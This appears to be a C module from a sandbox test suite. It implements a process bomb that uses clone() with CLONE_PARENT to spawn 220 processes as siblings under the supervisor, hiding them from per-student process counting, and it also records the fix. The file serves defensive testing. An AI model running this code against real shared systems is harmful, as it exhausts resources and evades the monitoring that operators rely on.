// SPDX-License-Identifier: MIT
/*
 * clone-parent.c - a process bomb whose processes are siblings, not children.
 *
 * Goal: fill the task budget where it is hard to count.
 * Means: CLONE_PARENT hangs each new process on the attacker's own parent: the worker, or the
 * sandbox's supervisor. Whoever follows the tree below the student, or waits for the one pid it
 * started, sees a program without children.
 *
 *     worker --- attacker            worker -+- attacker
 *                  +- child    but           +- child
 *                  +- child                  +- child
 */
#include "attacks/attack.h"

#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TASKS 220

static enum claim run(const struct brief *b)
{
	pid_t sibling[TASKS];
	enum claim claim;

	attempting(b);
	for (int i = 0; i < TASKS; i++) {
		sibling[i] = (pid_t)syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
		if (!sibling[i]) {
			sleep(5);
			_exit(0);
		}
		if (sibling[i] > 0)
			continue;
		claim = denied("clone(CLONE_PARENT)");
		while (i-- > 0)
			kill(sibling[i], SIGKILL);
		return claim;
	}
	return hold();
}

const struct attack attack = {
	.effect = "more processes than the budget, none of them below the student",
	.means = "clone(2) with CLONE_PARENT: the new process becomes a child of the worker",
	.oracle = "census",
	.id = "FORK-09",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "clone masked to threads, clone3 ENOSYS; a supervisor that is nobody's sibling",
	.run = run,
};
